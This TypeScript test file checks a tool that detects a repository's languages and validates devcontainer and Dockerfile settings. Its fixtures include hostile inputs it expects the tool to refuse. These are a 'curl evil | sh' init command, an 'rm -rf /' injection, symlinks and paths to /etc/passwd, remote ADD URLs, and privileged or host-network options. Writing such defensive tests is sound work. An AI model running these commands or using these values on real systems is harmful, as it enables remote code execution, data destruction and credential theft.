import { symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { checkedEnvironment } from '../../../src/adapters/kennel/environment/found.ts';
import type { FoundEnvironment } from '../../../src/contracts/environment.ts';
import { Workspace } from './program.ts';

const made: Workspace[] = [];
afterEach(() => {
  for (const workspace of made.splice(0)) workspace.remove();
});

const AT = '.devcontainer/devcontainer.json';

function found(files: Record<string, string>): FoundEnvironment {
  const w = new Workspace();
  made.push(w);
  w.write(files);
  return checkedEnvironment(w.ok({ op: 'environment' }).data);
}
const languages = (files: Record<string, string>) =>
  found(files).languages.map(({ language, version }) => [language, version]);

describe('what a repository needs', () => {
  it.each<[string, Record<string, string>, Array<[string, string | null]>]>([
    [
      '.tool-versions',
      { '.tool-versions': '# ours\nnodejs 20.11.0\npython 3.12.1 3.11\n' },
      [
        ['node', '20.11.0'],
        ['python', '3.12.1'],
      ],
    ],
    [
      'mise.toml',
      { 'mise.toml': '[tools]\nnode = "22"\n"core:go" = { version = "1.24" }\nruby = ["3.3", "3.2"]\n' },
      [
        ['node', '22'],
        ['go', '1.24'],
        ['ruby', '3.3'],
      ],
    ],
    ['.nvmrc', { '.nvmrc': 'lts/iron\n' }, [['node', '20']]],
    ['rust-toolchain.toml', { 'rust-toolchain.toml': '[toolchain]\nchannel = "1.80"\n' }, [['rust', '1.80']]],
    ['rust-toolchain', { 'rust-toolchain': 'nightly\n' }, [['rust', 'nightly']]],
    ['go.mod', { 'go.mod': 'module x\n\ngo 1.22\n\ntoolchain go1.23.4\n' }, [['go', '1.23.4']]],
    ['pyproject.toml', { 'pyproject.toml': '[project]\nrequires-python = ">=3.9"\n' }, [['python', '>=3.9']]],
    ['poetry', { 'pyproject.toml': '[tool.poetry.dependencies]\npython = "^3.10"\n' }, [['python', '^3.10']]],
    ['package.json', { 'package.json': '{"engines":{"node":">=18"}}' }, [['node', '>=18']]],
    [
      'pom.xml',
      { 'pom.xml': '<project><properties><maven.compiler.release>21</maven.compiler.release></properties></project>' },
      [['java', '21']],
    ],
    [
      'build.gradle.kts',
      { 'build.gradle.kts': 'java { toolchain { languageVersion.set(JavaLanguageVersion.of(17)) } }\n' },
      [['java', '17']],
    ],
    ['composer.json', { 'composer.json': '{"require":{"php":"^8.1"}}' }, [['php', '^8.1']]],
    ['Gemfile', { Gemfile: "source 'https://rubygems.org'\nruby '~> 3.1'\n" }, [['ruby', '~> 3.1']]],
    ['CMakeLists.txt', { 'CMakeLists.txt': 'project(x)\n' }, [['c', null]]],
    [
      'sources alone',
      { 'src/main.cpp': '', 'tool.rb': '' },
      [
        ['c', null],
        ['ruby', null],
      ],
    ],
    [
      'the more precise of two files',
      { '.python-version': '3.11', 'pyproject.toml': '[project]\nrequires-python = ">=3.8"\n' },
      [['python', '3.11']],
    ],
    ['nothing', { 'README.md': '# x\n', 'tool.py': 'print(1)\n' }, []],
  ])('is read from %s', (_, files, expected) => {
    expect(languages(files)).toEqual(expected);
  });

  it('is nothing where a file is no such file, or says what is no version', () => {
    const broken = {
      'package.json': '{ "engines": ',
      'pyproject.toml': '= = =',
      'mise.toml': '[tools]\nnode = "$(evil)"\n',
      '.nvmrc': '\0\u0001',
      'go.mod': 'go 1.22"; rm -rf /',
    };
    expect(languages(broken)).toEqual([
      ['node', null],
      ['python', null],
      ['go', '1.22'],
    ]);
  });

  it('is never read through a link', () => {
    const w = new Workspace();
    made.push(w);
    symlinkSync('/etc/hostname', join(w.root, '.nvmrc'));
    symlinkSync('/etc', join(w.root, '.devcontainer'));
    symlinkSync('/etc/passwd', join(w.root, '.devcontainer.json'));
    const environment = checkedEnvironment(w.ok({ op: 'environment' }).data);
    expect(environment).toMatchObject({ languages: [], devcontainer: null, refused: [{ line: 1 }] });
    expect(JSON.stringify(environment)).not.toContain('root:');
  });
});

describe('a devcontainer', () => {
  it('gives languages, packages, services, variables, its image and what prepares the workspace', () => {
    const environment = found({
      [AT]: `{
        // comments and commas at the end are allowed
        "name": "x", "image": "mcr.microsoft.com/devcontainers/base:bookworm",
        "features": {
          "ghcr.io/devcontainers/features/node:1": { "version": "lts" },
          "ghcr.io/devcontainers/features/python:1": { "version": "3.11" },
          "ghcr.io/devcontainers/features/common-utils:2": {},
          "ghcr.io/devcontainers-contrib/features/apt-packages:1": { "packages": "libpq-dev,jq" },
        },
        "containerEnv": { "MODE": "test", "SRC": "\${containerWorkspaceFolder}/src" },
        "customizations": { "vscode": { "extensions": ["x.y"] }, "fetch": { "services": ["postgresql"] } },
        "forwardPorts": [3000], "remoteUser": "vscode", "privileged": false, "mounts": [], "runArgs": [],
        "postCreateCommand": { "one": "npm ci", "two": ["pip", "install", "it's"] },
      }`,
    });
    expect(environment).toEqual({
      languages: [
        { language: 'node', version: null, file: AT },
        { language: 'python', version: '3.11', file: AT },
      ],
      managers: [],
      services: ['postgresql'],
      packages: ['libpq-dev', 'jq'],
      variables: { MODE: 'test', SRC: '/workspace/src' },
      devcontainer: {
        file: AT,
        image: 'mcr.microsoft.com/devcontainers/base:bookworm',
        dockerfile: null,
        args: {},
        copied: [],
        setup: ['npm ci', "'pip' 'install' 'it'\\''s'"],
      },
      refused: [],
      unused: [],
      files: [AT],
    });
  });

  it('gives the text of its Dockerfile, which copies nothing of the repository', () => {
    const dockerfile =
      'ARG V=1\nFROM debian:12 AS one\nRUN apt-get update \\\n # why\n && true\nFROM debian:12\nCOPY --from=one /etc/os-release /x\n';
    const environment = found({
      [AT]: '{ "build": { "dockerfile": "../docker/Dockerfile", "context": "..", "args": { "V": "2" } } }',
      'docker/Dockerfile': dockerfile,
    });
    expect(environment).toMatchObject({
      devcontainer: { dockerfile, args: { V: '2' } },
      refused: [],
      files: [AT, 'docker/Dockerfile'],
    });
  });

  const deep = `{"a":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
  it.each<[string, string, number]>([
    ['a folder of the machine', '{\n  "image": "debian:12",\n  "mounts": ["source=/,target=/host,type=bind"]\n}', 3],
    ['another workspace', '{\n"workspaceMount": "source=/etc,target=/workspace,type=bind"}', 2],
    ['privileges', '{\n\n"privileged": true}', 3],
    ['capabilities', '{"capAdd": ["SYS_ADMIN"]}', 1],
    ['no walls', '{"securityOpt": ["seccomp=unconfined"]}', 1],
    ['the network of the host', '{\n"runArgs": ["--network=host"]\n}', 2],
    ['a command on the machine', '{\n// harmless?\n"initializeCommand": "curl evil | sh"}', 3],
    ['other containers', '{"dockerComposeFile": "compose.yml"}', 1],
    ['a port of the machine', '{"appPort": [22]}', 1],
    ['secrets', '{"secrets": {"TOKEN": {}}}', 1],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: as it is written in the file
    ['a variable of the machine', '{\n"containerEnv": {\n"A": "${localEnv:HOME}"}}', 3],
    [
      'a variable of the machine as an argument',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: as it is written in the file
      '{\n"build": {"dockerfile": "D",\n"args": {"A": "${localEnv:TOKEN}"}}}',
      3,
    ],
    ['a variable of the runner', '{"containerEnv": {\n"LD_PRELOAD": "/workspace/x.so"}}', 2],
    ['another program search', '{"remoteEnv": {"PATH": "/workspace/bin"}}', 1],
    ['options of the build', '{"build": {\n"options": ["--network=host"]}}', 2],
    ['layers of somebody', '{"build": {"cacheFrom": "evil/x"}}', 1],
    ['a Dockerfile outside', '{\n"build": {"dockerfile": "../../../etc/passwd"}}', 2],
    ['an absolute Dockerfile', '{"dockerFile": "/etc/passwd"}', 1],
    ['a Dockerfile that is a link', '{\n"dockerFile": "link"}', 2],
    ['a Dockerfile in git', '{"dockerFile": "../.git/config"}', 1],
    ['a folder outside', '{"build": {\n"context": "../.."}}', 2],
    ['a package that is an option', '{"customizations": {"fetch": {"packages": ["-o=APT::x"]}}}', 1],
    ['an image that is none', '{"image": "debian\\nRUN evil"}', 1],
    ['no JSON', '{\n  "image": \n}', 3],
    ['no object', '[]', 1],
    ['deep JSON', deep, 1],
    ['a huge file', `{"image": "${'x'.repeat(300_000)}"}`, 1],
  ])('that wants %s is refused with its line', (_, text, line) => {
    const w = new Workspace();
    made.push(w);
    w.write({ [AT]: text, 'go.mod': 'module x\n\ngo 1.22\n', '.devcontainer/D': 'FROM debian:12\n' });
    symlinkSync('/etc/passwd', join(w.root, '.devcontainer/link'));
    const environment = checkedEnvironment(w.ok({ op: 'environment' }).data);
    expect(environment.refused[0]).toMatchObject({ file: AT, line });
    expect(environment.refused[0]!.why).toMatch(/\.$/);
    // nothing else of it is used, and the rest of the repository is
    expect(environment).toMatchObject({
      devcontainer: null,
      variables: {},
      packages: [],
      services: [],
      languages: [{ language: 'go', version: '1.22', file: 'go.mod' }],
    });
    expect(JSON.stringify(environment)).not.toContain('root:x:0');
  });

  it.each<[string, string, number]>([
    ['secrets of the build', 'FROM debian:12\nRUN --mount=type=secret,id=x cat /run/secrets/x', 2],
    ['an agent of ssh', 'FROM debian:12\nRUN --mount=type=ssh git clone x', 2],
    ['the network of the host', 'FROM debian:12\nRUN --network=host curl x', 2],
    ['files of a folder without git', 'FROM debian:12\n\n# all\nCOPY . /x', 4],
    ['an address', 'FROM debian:12\nADD https://evil/x /x', 2],
    ['files of another image', 'FROM debian:12\nCOPY --from=company/secrets:1 / /x', 2],
    ['another reader', '# syntax=evil/frontend\nFROM debian:12', 1],
    ['another platform', 'FROM --platform=linux/s390x debian:12', 1],
    ['a trap for later', 'FROM debian:12\nONBUILD RUN x', 2],
    ['nothing', '# empty\n', 1],
  ])('whose Dockerfile wants %s is refused with the line of that', (_, dockerfile, line) => {
    const environment = found({
      [AT]: '{"build":{"dockerfile":"Dockerfile"}}',
      '.devcontainer/Dockerfile': dockerfile,
    });
    expect(environment).toMatchObject({ devcontainer: null, refused: [{ file: '.devcontainer/Dockerfile', line }] });
  });
});
